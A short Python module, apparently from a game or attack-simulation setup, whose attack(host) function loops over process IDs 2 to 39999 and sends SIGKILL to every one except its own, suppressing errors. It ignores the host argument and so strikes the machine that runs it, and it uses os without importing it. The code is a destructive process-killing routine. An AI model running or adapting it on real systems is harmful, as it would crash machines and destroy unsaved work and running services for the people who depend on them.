"""Killing all numbers there may be."""

import contextlib


def attack(host):
    for number in range(2, 40000):
        if number != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(number, 9)
    return "held"
